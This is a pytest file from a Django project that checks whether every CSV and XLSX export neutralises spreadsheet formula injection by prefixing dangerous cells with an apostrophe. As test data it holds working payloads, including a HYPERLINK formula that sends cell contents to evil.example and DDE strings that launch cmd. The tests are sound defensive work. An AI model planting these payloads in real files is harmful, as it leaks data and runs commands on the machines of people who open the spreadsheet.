"""Standing attack: spreadsheet formula injection in every export (issue 12).

A text cell starting with = + - @ TAB or CR is a formula when Excel or LibreOffice opens the
file. Every XLSX and CSV export goes through lebork_einclusion/tables.py, which prefixes such a
cell with an apostrophe; the ranking CSV wrote its rows with its own csv.writer before.
"""

import csv
import io
import pathlib

import pytest
from django.conf import settings
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from lebork_einclusion import roles
from lebork_einclusion.tables import workbook_bytes
from tests.crawl import body_of, urls_for
from tests.url_samples import SAMPLES

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
ATTACKS = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"Kliknij")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
}
SPREADSHEET_TYPES = ("application/vnd.openxmlformats", "text/csv")
PROJECT_APPS = (
    "lebork_einclusion",
    "recruitment",
    "procurement",
    "lending",
    "training",
    "monitoring",
)


def _xlsx_cells(body: bytes):
    book = load_workbook(io.BytesIO(body))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _dangerous_xlsx_cells(body: bytes) -> list:
    return [
        cell.value
        for cell in _xlsx_cells(body)
        if cell.data_type == "f"
        or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_START))
    ]


def _csv_cells(body: bytes) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(body.decode("utf-8-sig"), newline=""))
        for cell in row
    ]


@pytest.mark.parametrize("value", ATTACKS.values(), ids=ATTACKS.keys())
def test_the_core_helpers_neutralise_every_formula_start(value):
    from lebork_einclusion.tables import csv_text

    assert _dangerous_xlsx_cells(workbook_bytes([("x", ["a"], [[value]])])) == []
    cells = _csv_cells(csv_text(["a"], [[value]]).encode())
    assert cells[1] == "'" + value
    assert not any(cell.startswith(FORMULA_START) for cell in cells)


@pytest.mark.parametrize("value", ATTACKS.values(), ids=ATTACKS.keys())
def test_the_ranking_csv_neutralises_a_hostile_number(value):
    from recruitment.interchange import ranking_csv

    payload = {
        "applications": [
            {
                "number": value,
                "status": "ranked",
                "rank": 1,
                "points": 5,
                "tie": False,
                "reasons": [value],
                "warnings": [],
                "breakdown": [],
            }
        ]
    }
    cells = _csv_cells(ranking_csv(payload).encode())
    assert not any(cell.startswith(FORMULA_START) for cell in cells)
    assert "'" + value in cells


def test_no_app_writes_a_spreadsheet_but_through_the_core_helper():
    base = pathlib.Path(settings.BASE_DIR)
    writers = ("csv.writer", "csv.DictWriter", "Workbook(", "xlsxwriter")
    found = []
    for app in PROJECT_APPS:
        for path in (base / app).rglob("*.py"):
            if path.name == "tables.py" and app == "lebork_einclusion":
                continue
            text = path.read_text(encoding="utf-8")
            found += [(str(path.relative_to(base)), w) for w in writers if w in text]
    assert found == []


@pytest.fixture
def hostile_data(db):
    """The demo with a formula at the start of every name, subject and model that exports show."""
    from lending.models import Asset
    from procurement.models import Procedure, Supplier
    from recruitment.models import HouseholdMember
    from training.models import Trainee

    HouseholdMember.objects.update(first_name=ATTACKS["equals"], last_name=ATTACKS["plus"])
    Trainee.objects.update(first_name=ATTACKS["equals"], last_name=ATTACKS["minus"])
    Procedure.objects.update(subject=ATTACKS["at"], annulment_reason=ATTACKS["tab"])
    Supplier.objects.update(name=ATTACKS["minus"])
    Asset.objects.update(make_model=ATTACKS["carriage-return"])


def test_every_export_of_the_demo_neutralises_hostile_text(hostile_data, make_user):
    client = Client()
    user = make_user(roles.COORDINATOR)
    client.force_login(user)
    get_user_model().objects.filter(pk=user.pk).update(first_name=ATTACKS["equals"])
    urls = [
        (name, url)
        for name, url in urls_for(roles.COORDINATOR)
        if "export" in name or name.endswith(("_xlsx", "_csv"))
    ]
    for fmt in ("csv", "xlsx"):
        kwargs = {**SAMPLES["recruitment:ranking_export"](), "fmt": fmt}
        urls.append((f"ranking.{fmt}", reverse("recruitment:ranking_export", kwargs=kwargs)))
    urls.sort(key=lambda item: item[0] == "core:personal_data_log_export")  # its rows last
    checked, neutralised = [], set()
    for name, url in urls:
        response = client.get(url)
        content_type = response.get("Content-Type", "")
        if response.status_code != 200 or not content_type.startswith(SPREADSHEET_TYPES):
            continue
        body = body_of(response)
        checked.append(name)
        if content_type.startswith("text/csv"):
            cells = _csv_cells(body)
            assert not any(cell.startswith(FORMULA_START) for cell in cells), name
        else:
            assert _dangerous_xlsx_cells(body) == [], name
            cells = [str(cell.value) for cell in _xlsx_cells(body) if cell.value is not None]
        if any(cell.startswith("'") and cell[1:].startswith(FORMULA_START) for cell in cells):
            neutralised.add(name)
    assert {
        "recruitment:application_export",
        "lending:asset_export",
        "procurement:procedure_export",
        "training:group_register_xlsx",
        "monitoring:snapshot_xlsx",
        "core:personal_data_log_export",
        "ranking.csv",
        "ranking.xlsx",
    } <= set(checked)
    # The hostile text really reached these files (and came out as text).
    assert {
        "recruitment:application_export",
        "lending:asset_export",
        "procurement:procedure_export",
        "training:group_register_xlsx",
        "core:personal_data_log_export",
    } <= neutralised
